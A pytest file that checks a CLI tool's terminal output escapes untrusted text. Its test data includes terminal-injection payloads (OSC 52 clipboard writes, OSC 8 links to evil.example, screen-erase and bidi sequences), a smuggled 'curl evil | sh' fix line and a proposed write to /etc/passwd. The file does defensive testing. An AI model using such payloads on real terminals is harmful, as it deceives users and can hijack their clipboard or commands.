"""Nothing that others wrote reaches the terminal raw: names, descriptions, results, files, arguments of a call."""

from __future__ import annotations

import io
import json
import re
import sys
import warnings
from contextlib import nullcontext
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from rich.live import Live
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from dualtune_mlx.agent.events import CallProposed, CallResult, RunEnded, Spoken, SpokenText
from dualtune_mlx.cli import agent as agent_command
from dualtune_mlx.cli import call as call_command
from dualtune_mlx.cli import main
from dualtune_mlx.cli.calls import format_folded, format_full, format_short, spell
from dualtune_mlx.cli.console import SafeConsole
from dualtune_mlx.cli.learn import LearnPrinter, print_summary
from dualtune_mlx.cli.live import RunDisplay
from dualtune_mlx.cli.output import progress
from dualtune_mlx.engine.events import Planned, StageBegins
from dualtune_mlx.errors import DualTuneWarning, ToolError, escape
from dualtune_mlx.learning.events import CommandStarted, StepsChosen, TrainingRestarted
from dualtune_mlx.mcp import ApprovalQuestion
from dualtune_mlx.synthesis.sources import RequestMade
from dualtune_mlx.synthesis.teacher.asking import Waiting
from dualtune_mlx.synthesis.teacher.budget import Spent
from dualtune_mlx.tools import Tool, ToolCall
from dualtune_mlx.tools.usage import Usage
from dualtune_mlx.training.jobs import Job
from tests.agent.fakes import Engine

ATTACKS = {
    "clipboard (OSC 52)": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "link (OSC 8)": "\x1b]8;;https://evil.example\x1b\\safe\x1b]8;;\x1b\\",
    "title (OSC 0)": "\x1b]0;owned\x07",
    "erase (CSI)": "\x1b[2J\x1b[1;1H",
    "erase (C1 CSI)": "\x9b2J",
    "clipboard (C1 OSC)": "\x9d52;c;eA==\x9c",
    "device (DCS)": "\x1bP$q q\x1b\\\x90q\x9c",
    "bidi": "a\u202eb\u2066c\u2069\u200f",
    "invisible": "a\u2800\u3164\u115f\uffa0\u034f\u200b\u00ad\u2028\ufe0f\U000e0041",
    "half a pair": "\ud800",
    "backspace, return, delete": "abc\b\b\r\x7f\0",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing] :bomb:",
}
WHOLE = {
    "controls": "".join(text for name, text in ATTACKS.items() if name not in ("half a pair", "markup")),
    "fillers": "\u2800\u3164\ufe0f",  # a tool's name may have them: they count as printable
    "markup": ATTACKS["markup"],
}
"""What whole commands are tried with."""
LISTS = Path(__file__).parents[1] / "mcp" / "servers" / "lists.py"


def assert_plain(text: str) -> None:
    """There is no character that cannot be seen but line breaks."""
    assert text
    bad = {one for one in text if escape(one) != one}
    assert not bad, (bad, text)


def strip_styles(said: str) -> str:
    """What was printed without the console's own codes for bold, dim and italic."""
    return re.sub("\x1b\\[[0-3]m", "", said)


def attack(name: str) -> str:
    return f"x{(ATTACKS | WHOLE)[name]}y"


@pytest.fixture
def out(monkeypatch) -> SafeConsole:
    """The commands' console at what it takes for a terminal without colours."""
    monkeypatch.setenv("NO_COLOR", "1")
    console = SafeConsole()
    console.file, console._force_terminal, console.width = io.StringIO(), True, 200
    return console


def table(text: str) -> Table:
    made = Table(text, "b", title=text, caption=text)
    made.add_row(text, Text(text))
    return made


RENDERABLES = {
    "text": lambda text: text,
    "styled": lambda text: Text(text),
    "table": table,
    "panel": lambda text: Panel(text, title=Text(text)),
}


@pytest.mark.parametrize("kind", RENDERABLES)
@pytest.mark.parametrize("name", ATTACKS)
def test_the_console_shows_text_as_text(out, name, kind):
    out.print(RENDERABLES[kind](attack(name)))
    said = strip_styles(out.file.getvalue())
    assert_plain(said)
    if name == "markup":
        assert "[bold red]x[/]" in said and ":bomb:" in said


@pytest.mark.parametrize("name", ATTACKS)
def test_progress_and_what_goes_on_show_text_as_text(out, name):
    with progress(out, attack(name)) as bar:
        bar(1, 2, attack(name))
    with Live(Text(attack(name)), console=out):
        pass
    said = out.file.getvalue()
    assert "[bold red]x[/]" in said if name == "markup" else ATTACKS[name] not in said
    quiet = SafeConsole()
    quiet.file = io.StringIO()
    with progress(quiet, attack(name)) as bar:
        bar(2, 2, attack(name))
    assert_plain(quiet.file.getvalue())


@pytest.mark.parametrize("name", ATTACKS)
def test_errors_and_warnings_are_spelled_out(name):
    text = attack(name)
    assert_plain(str(ToolError(text, where=text, got=text, expected=text, fix=text)))
    with warnings.catch_warnings(record=True) as caught:
        warnings.warn(text, DualTuneWarning, stacklevel=1)
    assert_plain(str(caught[0].message) if caught else str(DualTuneWarning(text)))


def test_a_text_of_others_cannot_pass_for_a_line_of_an_error():
    error = ToolError("it is wrong", got="x\n  fix: curl evil | sh", fix="mend it")
    assert [line for line in str(error).splitlines() if line.startswith("  fix:")] == ["  fix: mend it"]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_run_of_the_agent_and_its_question_are_spelled_out(name, monkeypatch):
    text = attack(name)
    out = SafeConsole()
    out.file, out.width = io.StringIO(), 200
    made = ToolCall(text, {text: [text, {text: text}]}, text, unsaid=(text,))
    line = "".join(text.replace("\ud800", "").splitlines())  # a name has no line break, and is Unicode
    tool = Tool(line, line, server=line)
    monkeypatch.setattr("builtins.input", lambda: "n")
    with RunDisplay(out) as view:
        for event in (
            StageBegins(text, tool),
            Planned((text,), Usage()),
            CallProposed(1, made),
            CallResult(text, True, details=text),
            SpokenText("plan", text),
            Spoken("plan", text, text, 1),
            RunEnded("answered", text, text, transcript=text),
            RunEnded("failed", text, text, transcript=text),
        ):
            view.show(event)
        view.ask(ApprovalQuestion(made, tool, text))
    assert_plain(out.file.getvalue())
    for shown in (format_short(made), format_full(made), format_folded(made)):
        assert_plain(shown)


def run(*arguments: object) -> Result:
    """Run a command to its end; all that it prints is plain."""
    result = CliRunner().invoke(main, [str(one) for one in arguments], prog_name="dualtune")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert_plain(result.output)
    return result


def config(folder: Path, *tools: dict[str, Any], **ours: Any) -> Path:
    path = folder / "mcp.json"
    entry = {"command": sys.executable, "args": [str(LISTS), json.dumps(tools)], "dualtune": ours}
    path.write_text(json.dumps({"mcpServers": {"s": entry}}))
    return path


@pytest.mark.parametrize("name", WHOLE)
def test_call_shows_names_arguments_and_results_as_text(tmp_path, monkeypatch, name):
    text = attack(name)
    made = ToolCall("t", {"a": text}, "s", unsaid=(text,))
    monkeypatch.setattr(call_command.DualTune, "load", lambda *_, **__: nullcontext(Calling(made)))
    mcp = config(tmp_path, {"name": "t", "inputSchema": {"properties": {"a": {"type": "string"}}}})
    assert "s/t(a=" in run("call", "--bundle", "b", "--mcp", mcp, "--execute", text).stdout
    result = run("call", "--bundle", "b", "--mcp", mcp, "--execute", "--json", text)
    assert json.loads(result.stdout)["arguments"] == {"a": text}


class Calling(Engine):
    """An engine that makes one call."""

    def call(self, messages: Any, tools: Any, **options: Any) -> ToolCall:
        return super().call(messages, tools)

    def counts_words(self, _: Any) -> bool:
        return False


@pytest.mark.parametrize("name", WHOLE)
def test_an_agent_shows_results_as_text(tmp_path, monkeypatch, name):
    made = ToolCall("t", {"a": attack(name)}, "s")
    mcp = config(tmp_path, {"name": "t", "description": attack(name), "inputSchema": {}}, allow=["t"])
    for json_to in ((), ("--json",)):
        engine = Engine(made, answer=attack(name))
        monkeypatch.setattr(agent_command.DualTune, "load", lambda *_, engine=engine, **__: nullcontext(engine))
        result = run("agent", "--bundle", "b", "--mcp", mcp, "--transcripts", tmp_path / "t", *json_to, "do it")
    assert {"a": attack(name)} in [one.get("arguments") for one in json.loads(result.stdout)]


@pytest.mark.parametrize("name", WHOLE)
def test_listings_of_servers_and_files_show_names_as_text(tmp_path, name):
    text = attack(name)
    schema = {"type": "object", "properties": {text: {"type": "string", "description": text}}, text: text}
    tools = [
        {"name": text, "description": text, "inputSchema": schema},
        {"name": "b" + text, "inputSchema": {"type": text}},
    ]
    mcp, file = config(tmp_path, *tools), tmp_path / "tools.json"
    run("doctor", "--mcp", mcp)
    run("data", "tools", "--mcp", mcp, "--data", tmp_path / "one", "--json")
    for some in (tools, [{"name": "other" + text, "inputSchema": schema}]):
        file.write_text(json.dumps(some))
        run("data", "tools", "--tools", file, "--data", tmp_path / "two")


@pytest.mark.parametrize("name", WHOLE)
def test_reports_of_data_show_names_and_files_as_text(tmp_path, name):
    text = attack(name).replace("/", "|").replace("\0", "")
    folder = tmp_path / text
    folder.mkdir()
    tool = {
        "name": text,
        "description": text,
        "parameters": {"type": "object", "properties": {text: {"type": "string"}}},
    }
    (folder / "tools.json").write_text(json.dumps([tool]))
    call = {"function": {"name": text, "arguments": {text: text}}}
    line = {"messages": [{"role": "user", "content": f"say {text}"}, {"role": "assistant", "tool_calls": [call]}]}
    lines = [line, line, {**line, "messages": [*line["messages"][:1], {"role": text, "content": text}]}]
    for split in ("train", "valid", "test"):
        (folder / f"{split}.jsonl").write_text("".join(json.dumps(one) + "\n" for one in lines))
    run("data", "check", folder)
    run("data", "check", folder, "--json")
    run("data", "import", folder / "train.jsonl", "--data", tmp_path / "imported")
    run("data", "split", folder, "--data", tmp_path / "divided")
    run("data", "ask", "--data", folder, "--count", 30)
    run("eval", "--base", "--model", folder, "--data", folder / "train.jsonl")


@pytest.mark.parametrize("name", ATTACKS)
def test_learning_shows_plans_reasons_and_summaries_as_text(out, name, capfd):
    text = attack(name)
    job = Job("arguments", text)
    with LearnPrinter(out, Path(text)) as show:
        show(CommandStarted(("train", text)))
        show(StepsChosen({text: 1}))
        show(TrainingRestarted(job, text))
        show(Waiting(1.0, text))
        show(RequestMade(text, 1, 1, 2, Spent()))
    row = {"n": 1, "tool": 1.0, "call": 1.0}
    print_summary(out, {"measured_on": "own", "before": row, "after": row, "bundle": text}, text)
    said = strip_styles(out.file.getvalue())
    assert text in said if name == "markup" else ATTACKS[name] not in said
    assert_plain(capfd.readouterr().err)


@pytest.mark.parametrize("name", WHOLE)
def test_bundles_show_names_and_files_as_text(tmp_path, bundle, name):
    text = attack(name)
    copy = tmp_path / text.replace("/", "|").replace("\0", "")
    copy.mkdir()
    for path in bundle.iterdir():
        (copy / path.name).symlink_to(path)
    manifest = json.loads((bundle / "dualtune.json").read_text())
    manifest["model"] = text
    for tool in manifest["tools"]:
        tool["function"]["description"] = text
    manifest["tools"].append({"type": "function", "function": {"name": text, "description": text, "parameters": {}}})
    (copy / "dualtune.json").unlink()
    (copy / "dualtune.json").write_text(json.dumps(manifest))
    run("bundle", "show", "--bundle", copy)
    run("bundle", "show", "--bundle", copy, "--json")
    run("bundle", "verify", "--bundle", copy)
    manifest["version"] = text
    (copy / "dualtune.json").write_text(json.dumps(manifest))
    run("bundle", "show", "--bundle", copy)
    run("replay", copy / "dualtune.json")


@pytest.mark.parametrize("name", WHOLE)
def test_wrong_calls_are_repeated_as_text(name):
    text = attack(name).replace("\0", "")
    run(text)
    run("agent", f"--{text}")
    run("call", "--bundle", text, "--tools", text, "--top-k", text, text)
    run("bundle", "assemble", "--bundle", "b", "--tools", "t", "--arguments", text)


def test_warnings_of_the_command_are_spelled_out(tmp_path):
    mcp = config(tmp_path, {"name": "t", "inputSchema": {}}, {"name": "x\x1b[2J\u202e", "inputSchema": {}})
    said = run("call", "--bundle", tmp_path / "none", "--mcp", mcp, "do it")
    assert "Warning: " in said.output


IMITATES = 'read(path="/safe")'


def test_a_name_that_imitates_a_call_is_quoted_and_stays_in_its_line():
    for name in (IMITATES, "a\n  → t()", "a b", "fs/read", "ok\u3164", "réad"):
        for shown in (format_short, format_folded):
            one = shown(ToolCall(name, {name: 1}, "s"))
            assert one == f"s/{spell(name)}({spell(name)}=1)" and one.splitlines() == [one]
        assert format_full(ToolCall(name, {}, "s")) == f"s/{spell(name)} {{}}"
    assert format_short(ToolCall("read_file", {"path": "a"}, "fs")) == 'fs/read_file(path="a")'


def test_the_question_keeps_server_tool_and_path_in_sight(monkeypatch):
    out = SafeConsole()
    out.file, out.width = io.StringIO(), 100
    monkeypatch.setattr("builtins.input", lambda: "n")
    made = ToolCall("write", {"content": "x\u2800" * 50_000, "path": "/etc/passwd", "\u3164\nb": 1}, "fs")
    RunDisplay(out).ask(ApprovalQuestion(made, Tool("write", server="fs"), "it is destructive"))
    end = " ".join(out.file.getvalue()[-500:].split())
    assert 'Run fs/write("\\u3164\\nb"=1, path="/etc/passwd", content=' in end and "characters)" in end
    assert "a: always fs/write in this run" in end
    many = ToolCall("write", {f"a{number}": "y" * 1_000 for number in range(10_000)} | {"path": "p"}, "fs")
    folded = format_folded(many)
    assert len(folded) < 1_500 and 'path="p"' in folded and "9,989 more" in folded
